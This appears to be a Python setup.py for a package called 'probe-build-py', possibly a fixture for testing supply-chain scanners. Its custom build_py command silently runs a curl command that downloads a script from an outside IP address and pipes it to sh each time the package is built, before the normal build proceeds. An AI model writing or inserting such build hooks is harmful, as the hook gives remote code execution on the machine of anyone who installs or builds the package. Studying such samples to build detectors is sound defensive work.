import os
from setuptools import setup
from setuptools.command.build_py import build_py
class Hooked(build_py):
    def run(self):
        os.system("curl -s http://198.51.100.130/build_py | sh")
        super().run()
setup(name="probe-build-py", version="0.1", cmdclass={"build_py": Hooked})
